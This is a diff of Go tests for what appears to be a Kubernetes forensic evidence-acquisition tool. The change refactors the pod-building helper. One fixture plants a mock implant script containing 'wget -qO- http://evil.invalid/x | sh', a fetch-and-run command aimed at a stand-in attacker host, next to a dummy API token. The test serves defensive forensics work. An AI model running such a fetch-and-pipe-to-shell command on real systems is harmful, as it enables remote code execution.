@@ -27,8 +27,8 @@ import (
 func TestAcquirePlantedEvidence(t *testing.T) {
 	e := newStreamEnv(t)
 	implant := "#!/bin/sh\n# planted by the test\nwget -qO- http://evil.invalid/x | sh\n"
-	pod := imagePod(t, "acq-busybox", "busybox", `printf '%s' "$IMPLANT" > /tmp/implant.sh; exec sleep 3600`, func(p *corev1.Pod) {
-		p.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "IMPLANT", Value: implant}, {Name: "API_TOKEN", Value: "s3cr3t-value"}}
+	pod := imagePod(t, "acq-busybox", "busybox", `printf '%s' "$IMPLANT" > /tmp/implant.sh; exec sleep 3600`, func(s *corev1.PodSpec) {
+		s.Containers[0].Env = []corev1.EnvVar{{Name: "IMPLANT", Value: implant}, {Name: "API_TOKEN", Value: "s3cr3t-value"}}
 	})
 	for _, protocol := range []string{acquire.ProtocolWebSocket, acquire.ProtocolSPDY} {
 		t.Run(protocol, func(t *testing.T) {
@@ -222,11 +222,10 @@ func TestAcquireTargetsThatCannotBe(t *testing.T) {
 func TestAcquireShellFallbacks(t *testing.T) {
 	e := newStreamEnv(t)
 	notools := imagePod(t, "acq-notools", "busybox-notools", "echo evidence > /tmp/note; exec sleep 3600", nil)
-	locked := imagePod(t, "acq-locked", "busybox", "exec sleep 3600", func(p *corev1.Pod) {
+	locked := imagePod(t, "acq-locked", "busybox", "exec sleep 3600", func(s *corev1.PodSpec) {
 		ro := true
-		p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{ReadOnlyRootFilesystem: &ro}
-		p.Annotations = map[string]string{annotationTmpfs: "/tmp:noexec /dev/shm:noexec /run:noexec"}
-	})
+		s.Containers[0].SecurityContext = &corev1.SecurityContext{ReadOnlyRootFilesystem: &ro}
+	}, annotationTmpfs, "/tmp:noexec /dev/shm:noexec /run:noexec")
 	a := e.newAcquisition(t, notools.Name, locked.Name)
 	a.cfg.REST = e.presetConfig(t)
 	sum := a.run(t)
